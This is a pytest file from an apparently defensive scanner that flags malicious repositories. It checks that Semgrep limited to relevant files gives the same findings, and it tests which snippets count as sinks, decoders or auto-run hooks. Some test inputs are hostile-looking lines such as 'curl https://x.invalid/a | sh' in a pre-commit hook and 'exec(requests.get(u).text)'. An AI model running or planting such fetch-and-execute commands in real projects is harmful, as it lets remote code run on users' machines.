"""Semgrep only on relevant files: same verdict and findings as Semgrep on every file, on every example."""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pytest

from inspector.correlate.verdict import compute_verdict
from inspector.model import Engine, EngineScope, Finding
from inspector.static import ScanOptions, scan, semgrep_batch, walk
from inspector.static.interface import AnalyzerResult, RepoView
from inspector.static.relevance import Reason, reasons_of, relevant_files
from inspector.static.semgrep import SemgrepAnalyzer

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
ROOTS = sorted(p for kind in ("malicious", "benign") for p in (EXAMPLES / kind).iterdir() if p.is_dir())
OPTIONS = ScanOptions(jobs=1)


@cache
def semgrep_results() -> tuple[dict[Path, AnalyzerResult], dict[Path, AnalyzerResult]]:
    """Relevant files only, and every regular file: each in one Semgrep process for all examples."""
    relevant = dict(zip(ROOTS, semgrep_batch(ROOTS, OPTIONS), strict=True))
    parts = []
    for root in ROOTS:
        files, _notes = walk(root)
        parts.append((RepoView(root, files), tuple(f.path for f in files if not f.is_link)))
    everything = dict(zip(ROOTS, SemgrepAnalyzer(jobs=1).analyze_batch(parts), strict=True))
    return relevant, everything


def _key(finding: Finding) -> tuple[object, ...]:
    return (finding.rule, finding.path, finding.line, finding.column, finding.severity, finding.category,
            finding.engines, finding.reachable_from)


@pytest.mark.parametrize("root", ROOTS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_relevance_limited_semgrep_changes_nothing(root: Path) -> None:
    relevant, everything = semgrep_results()
    assert not relevant[root].skipped and not everything[root].skipped
    limited = scan(root, OPTIONS, relevant[root])
    exhaustive = scan(root, OPTIONS, everything[root])
    assert compute_verdict(limited.findings)[0] == compute_verdict(exhaustive.findings)[0]
    assert sorted(map(_key, limited.findings), key=repr) == sorted(map(_key, exhaustive.findings), key=repr)
    (read,) = [e for e in limited.engine_files if e.engine is Engine.SEMGREP]
    assert read.scope is EngineScope.RELEVANT
    (all_read,) = [e for e in exhaustive.engine_files if e.engine is Engine.SEMGREP]
    assert set(read.paths) <= set(all_read.paths)


def test_semgrep_reads_fewer_files_on_the_examples() -> None:
    relevant, everything = semgrep_results()
    limited = sum(len(r.engine_files[0].paths) for r in relevant.values())
    exhaustive = sum(len(r.engine_files[0].paths) for r in everything.values())
    assert 0 < limited < exhaustive


def test_a_file_that_names_no_sink_is_not_relevant() -> None:
    assert reasons_of("src/util.js", b"export const add = (a, b) => a + b;\n") == frozenset()
    assert reasons_of("README.md", b"run eval(fetch(x)) | sh") == frozenset()  # no rule reads Markdown as code


def test_sinks_sources_decoders_and_auto_run_files_are_relevant() -> None:
    assert Reason.DYNAMIC_CODE in reasons_of("a.js", b"new Function('require', body)")
    py = reasons_of("a.py", b"import requests\nexec(requests.get(u).text)")
    assert {Reason.CODE_SINK, Reason.NETWORK_SOURCE} <= py
    assert Reason.ENCODED in reasons_of("a.py", b"base64.b64decode(x)")
    assert Reason.AUTO_RUN in reasons_of("package.json", b'{"scripts": {"postinstall": "node x.js"}}')
    assert Reason.AUTO_RUN in reasons_of(".vscode/tasks.json", b'{"runOn": "folderOpen"}')
    assert Reason.AUTO_RUN in reasons_of(".husky/pre-commit", b"curl https://x.invalid/a | sh")
    assert Reason.AUTO_RUN not in reasons_of("docs/install.md", b"curl https://x.invalid/a | sh")
    # A script without an extension is read as Semgrep reads it: by its shebang.
    assert Reason.DYNAMIC_CODE in reasons_of("bin/run", b"#!/usr/bin/env node\neval(x)")


def test_no_semgrep_process_when_nothing_is_relevant(tmp_path: Path) -> None:
    (tmp_path / "add.py").write_text("def add(a, b):\n    return a + b\n")
    files, _notes = walk(tmp_path)
    repo = RepoView(tmp_path, files)
    chosen = relevant_files(repo, 1 << 20).for_semgrep()
    assert chosen == ()
    # An executable that does not exist would give "semgrep could not be started": it never is.
    absent = SemgrepAnalyzer(semgrep=str(tmp_path / "no-such-semgrep")).analyze_files(repo, chosen)
    assert absent.skipped == ()
    result = scan(tmp_path, ScanOptions(jobs=1))
    assert not result.skipped
    (read,) = [e for e in result.engine_files if e.engine is Engine.SEMGREP]
    assert read.paths == () and read.scope is EngineScope.RELEVANT
    assert {e.engine for e in result.engine_files} == {Engine.SEMGREP, Engine.TEXT, Engine.TREE_SITTER}
